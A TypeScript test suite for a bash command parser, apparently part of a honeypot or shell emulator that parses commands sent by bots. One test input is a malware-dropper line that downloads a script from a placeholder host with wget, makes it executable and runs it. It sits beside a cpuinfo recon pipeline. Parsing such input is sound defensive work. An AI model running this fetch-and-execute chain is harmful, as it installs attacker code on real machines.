import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Command, CondExpr, List, Word } from './ast.js';
import { parseCommandLine, ScriptParser, ShellSyntaxError } from './parse.js';

/** A compact rendering of a word: quoted text in [], params as ${name op arg}, substitutions as $(...). */
function w(word: Word): string {
  return word.parts
    .map((p) => {
      if (p.kind === 'text') return p.quoted ? `[${p.value}]` : p.value;
      if (p.kind === 'command') return `$(${show(p.list)})`;
      if (p.kind === 'arith') return `$((${w(p.expr)}))`;
      if (p.bad !== undefined) return `BAD${p.bad}`;
      if (!p.op) return `$${p.name}`;
      return `\${${p.name}${p.op}${p.arg ? w(p.arg) : ''}${p.arg2 ? '|' + w(p.arg2) : ''}}`;
    })
    .join('');
}

function cond(e: CondExpr): string {
  switch (e.kind) {
    case 'and':
    case 'or':
      return `(${cond(e.left)} ${e.kind === 'and' ? '&&' : '||'} ${cond(e.right)})`;
    case 'not':
      return `!${cond(e.expr)}`;
    case 'unary':
      return `${e.op} ${w(e.arg)}`;
    case 'binary':
      return `${w(e.left)} ${e.op} ${w(e.right)}`;
    case 'word':
      return w(e.word);
  }
}

function cmd(c: Command): string {
  const r = c.redirects.map((x) => (x.heredoc ? `${x.fd}${x.op}<${w(x.heredoc)}>` : `${x.fd}${x.op}${w(x.target)}`));
  const body = ((): string => {
    switch (c.kind) {
      case 'simple':
        return [...c.assignments.map((x) => `${x.name}${x.append ? '+' : ''}=${w(x.value)}`), ...c.words.map(w)].join(' ');
      case 'subshell':
        return `(${show(c.list)})`;
      case 'group':
        return `{${show(c.list)}}`;
      case 'if':
        return `IF ${c.clauses.map((k) => `${show(k.cond)} THEN ${show(k.body)}`).join(' ELIF ')}${c.elseBody ? ` ELSE ${show(c.elseBody)}` : ''} FI`;
      case 'while':
      case 'until':
        return `${c.kind.toUpperCase()} ${show(c.cond)} DO ${show(c.body)} DONE`;
      case 'for':
        return `FOR ${c.name}${c.words ? ` IN ${c.words.map(w).join(' ')}` : ''} DO ${show(c.body)} DONE`;
      case 'arith-for':
        return `FOR ((${w(c.init)};${w(c.cond)};${w(c.step)})) DO ${show(c.body)} DONE`;
      case 'case':
        return `CASE ${w(c.word)} ${c.items.map((i) => `${i.patterns.map(w).join('|')}) ${show(i.body)} ${i.terminator}`).join(' ')} ESAC`;
      case 'function':
        return `FN ${c.name} ${cmd(c.body)}`;
      case 'cond':
        return `[[ ${cond(c.expr)} ]]`;
      case 'arith':
        return `((${w(c.expr)}))`;
    }
  })();
  return [body, ...r].filter((x) => x !== '').join(' ');
}

function show(list: List): string {
  return list.items
    .map((ao) => {
      const pipe = (p: { commands: Command[]; negated: boolean; timed?: boolean }) => (p.timed ? 'time ' : '') + (p.negated ? '! ' : '') + p.commands.map(cmd).join(' | ');
      return [pipe(ao.first), ...ao.rest.map((r) => `${r.op} ${pipe(r.pipeline)}`)].join(' ') + (ao.background ? ' &' : '');
    })
    .join(' ; ');
}

const p = (s: string): string => show(parseCommandLine(s));

function err(s: string): ShellSyntaxError {
  try {
    parseCommandLine(s);
  } catch (e) {
    if (e instanceof ShellSyntaxError) return e;
    throw e;
  }
  throw new Error(`no error for ${s}`);
}

test('lists, and-or chains and pipelines as bots write them', () => {
  assert.equal(p('cd /tmp || cd /var/run || cd /mnt; wget http://x/a.sh; chmod +x a.sh; ./a.sh'), 'cd /tmp || cd /var/run || cd /mnt ; wget http://x/a.sh ; chmod +x a.sh ; ./a.sh');
  assert.equal(p('cat /proc/cpuinfo | grep name | wc -l'), 'cat /proc/cpuinfo | grep name | wc -l');
  assert.equal(p('a && b || c'), 'a && b || c');
  assert.equal(p('a &&\n b'), 'a && b');
  assert.equal(p('sleep 10 & echo x'), 'sleep 10 & ; echo x');
  assert.equal(p('! true'), '! true');
  assert.equal(p('time sleep 1'), 'time sleep 1');
  assert.equal(p('a\nb\n'), 'a ; b');
  assert.equal(p('   # only a comment'), '');
  assert.equal(p('echo a#b # comment'), 'echo a#b');
  assert.equal(p('a |& b'), 'a 2>&1 | b');
});

test('quotes, escapes and ANSI-C strings', () => {
  assert.equal(p(`echo 'a b' "c $HOME d" e\\ f`), 'echo [a b] [c ]$HOME[ d] e[ ]f');
  assert.equal(p(`echo "a\\"b" 'it''s' ""`), 'echo [a"b] [it][s] []');
  assert.equal(p(`echo $'\\x41\\n\\101\\u00e9'`), 'echo [A\nAé]');
  assert.equal(p('echo "$"'), 'echo [$]');
  assert.equal(p('echo a\\\nb'), 'echo ab');
});

test('parameters: every ${...} form, $((...)), $(...) and backticks', () => {
  assert.equal(p('X=1 Y="a b" Z+=c env'), 'X=1 Y=[a b] Z+=c env');
  assert.equal(p('echo ${PATH} $? $1 $$ ${10} $#'), 'echo $PATH $? $1 $$ $10 $#');
  assert.equal(p('echo ${x:-def} ${x-d} ${x:=v} ${x:+alt} ${x:?msg}'), 'echo ${x:-def} ${x-d} ${x:=v} ${x:+alt} ${x:?msg}');
  assert.equal(p('echo ${#x} ${!ref} ${p##*/} ${p#*/} ${p%/*} ${p%%.*}'), 'echo ${xlength} ${refindirect} ${p##*/} ${p#*/} ${p%/*} ${p%%.*}');
  assert.equal(p('echo ${s/a/b} ${s//a/b} ${s/#a/b} ${s/%a} ${s^^} ${s:1:2} ${s: -1}'), 'echo ${s/a|b} ${s//a|b} ${s/#a|b} ${s/%a} ${s^^} ${ssubstring1|2} ${ssubstring -1}');
  assert.equal(p('echo "${x:-"a b"}"'), 'echo ${x:-[a b]}');
  assert.equal(p('echo ${a b}'), 'echo BAD${a b}');
  assert.equal(p('echo $(uname -m) `whoami`'), 'echo $(uname -m) $(whoami)');
  assert.equal(p('echo "$(echo "nested $(id -u)")"'), 'echo $(echo [nested ]$(id -u))');
  assert.equal(p('echo $((1+2)) $(( x * (y+1) )) $[3]'), 'echo $(([1+2])) $(([ x * (y+1) ])) $(([3]))');
  assert.equal(p('echo $(case x in x) echo y;; esac)'), 'echo $(CASE x x) echo y ;; ESAC)');
});

test('redirections and here-documents', () => {
  assert.equal(p('echo x > /tmp/f 2>&1'), 'echo x 1>/tmp/f 2>&1');
  assert.equal(p('echo x >> f 2>/dev/null < in'), 'echo x 1>>f 2>/dev/null 0<in');
  assert.equal(p('cmd &>/dev/null; cmd &>> log'), 'cmd -1>/dev/null ; cmd -1>>log');
  assert.equal(p('>f'), '1>f');
  assert.equal(p('cat <<< "here string"'), 'cat 0<<<[here string]');
  assert.equal(p('cat <<EOF\nhi $USER\n$(id)\nEOF\necho after'), 'cat 0<<<[hi ]$USER[\n]$(id)[\n]> ; echo after');
  assert.equal(p("cat <<'EOF' > out\n$HOME\nEOF"), 'cat 0<<<[$HOME\n]> 1>out');
  assert.equal(p('cat <<-END\n\t\tindented\n\tEND'), 'cat 0<<-<[indented\n]>');
  assert.equal(p('cat <<A; cat <<B\na\nA\nb\nB'), 'cat 0<<<[a\n]> ; cat 0<<<[b\n]>');
  const s = new ScriptParser('cat <<EOF\nnever closed');
  assert.equal(show(s.next()!), 'cat 0<<<[never closed\n]>');
  assert.deepEqual(s.warnings, ["line 2: warning: here-document at line 1 delimited by end-of-file (wanted `EOF')"]);
  assert.equal(s.heredocOpen, true);
});

test('compound commands: if, loops, for, case, groups, subshells, functions, [[ ]], (( ))', () => {
  assert.equal(p('if a; then b; elif c; then d; else e; fi'), 'IF a THEN b ELIF c THEN d ELSE e FI');
  assert.equal(p('if [ -f x ]\nthen\n  echo y\nfi > out'), 'IF [ -f x ] THEN echo y FI 1>out');
  assert.equal(p('while read l; do echo $l; done < f'), 'WHILE read l DO echo $l DONE 0<f');
  assert.equal(p('until false; do :; done'), 'UNTIL false DO : DONE');
  assert.equal(p('for i in 1 2 3; do echo $i; done'), 'FOR i IN 1 2 3 DO echo $i DONE');
  assert.equal(p('for i\ndo echo $i\ndone'), 'FOR i DO echo $i DONE');
  assert.equal(p('for ((i=0; i<3; i++)); do echo $i; done'), 'FOR (([i=0];[ i<3];[ i++])) DO echo $i DONE');
  assert.equal(p('case $1 in\n  start|go) run;;\n  (stop) halt ;&\n  *) echo usage\nesac'), 'CASE $1 start|go) run ;; stop) halt ;& *) echo usage ;; ESAC');
  assert.equal(p('case x in esac'), 'CASE x  ESAC');
  assert.equal(p('(cd /tmp && ls) ; { echo a; echo b; } > out'), '(cd /tmp && ls) ; {echo a ; echo b} 1>out');
  assert.equal(p('f() { echo $1; }; function g { :; }; function h() (ls)'), 'FN f {echo $1} ; FN g {:} ; FN h (ls)');
  assert.equal(p('[[ -f /x && ( $a == b* || ! $c < d ) ]]'), '[[ (-f /x && ($a == b* || !$c < d)) ]]');
  assert.equal(p('(( i++ )) && echo'), '(([ i++ ])) && echo');
  assert.equal(p('echo if then fi'), 'echo if then fi');
  assert.equal(p('{ echo }; }'), '{echo }}');
});

test('aliases expand in command position only, once', () => {
  const aliases = new Map([['ll', 'ls -l'], ['ls', 'ls --color=auto'], ['loop', 'loop x']]);
  const q = (s: string): string => show(parseCommandLine(s, { aliases }));
  assert.equal(q('ll /tmp; echo ll'), 'ls --color=auto -l /tmp ; echo ll');
  assert.equal(q('loop'), 'loop x');
  assert.equal(q("'ll'"), '[ll]');
});

test("syntax errors carry bash's message and line; unterminated input is flagged incomplete", () => {
  assert.equal(err('echo a ;; b').message, "syntax error near unexpected token `;;'");
  assert.equal(err('| x').message, "syntax error near unexpected token `|'");
  assert.equal(err('echo >').message, "syntax error near unexpected token `newline'");
  assert.equal(err('if true; fi').message, "syntax error near unexpected token `fi'");
  assert.equal(err('then').message, "syntax error near unexpected token `then'");
  assert.equal(err('while true; do done').message, "syntax error near unexpected token `done'");
  assert.equal(err('for x in a b; echo').message, "syntax error near unexpected token `echo'");
  assert.equal(err('for x in a b; echo').expecting, 'do');
  assert.equal(err('for').message, "syntax error near unexpected token `newline'");
  assert.equal(err('f() echo').message, "syntax error near unexpected token `echo'");
  assert.equal(err('a) echo').message, "syntax error near unexpected token `)'");
  assert.equal(err('case a in a) echo;; esac; esac').message, "syntax error near unexpected token `esac'");
  assert.equal(err('echo a\necho b; fi').line, 2);
  for (const open of ['if true; then', 'case a in', '{ echo a', '(echo a', 'echo a |', 'echo a &&', 'while true; do echo']) {
    const e = err(open);
    assert.deepEqual([e.message, e.line, e.incomplete], ['syntax error: unexpected end of file', 2, true], open);
  }
  assert.deepEqual([err('echo "abc').message, err('echo "abc').incomplete], ['unexpected EOF while looking for matching `"\'', true]);
  assert.equal(err("echo 'abc").incomplete, true);
  assert.equal(err('echo $(ls').message, "unexpected EOF while looking for matching `)'");
  assert.equal(err('echo ${x').message, "unexpected EOF while looking for matching `}'");
  assert.equal(err('echo `x').message, "unexpected EOF while looking for matching ``'");
  assert.equal(err('[[ a').message, "unexpected token `newline', conditional binary operator expected");
});

test('a script parses line by line, so earlier lines can run before a later syntax error', () => {
  const s = new ScriptParser('echo a\nif true; fi\necho c');
  assert.equal(show(s.next()!), 'echo a');
  assert.throws(() => s.next(), (e: unknown) => e instanceof ShellSyntaxError && e.line === 2);
});

test('pathological nesting is refused, not a stack overflow', () => {
  assert.throws(() => parseCommandLine('echo ' + '$('.repeat(200) + ')'.repeat(200)), ShellSyntaxError);
  assert.throws(() => parseCommandLine('{ '.repeat(5000)), ShellSyntaxError);
});
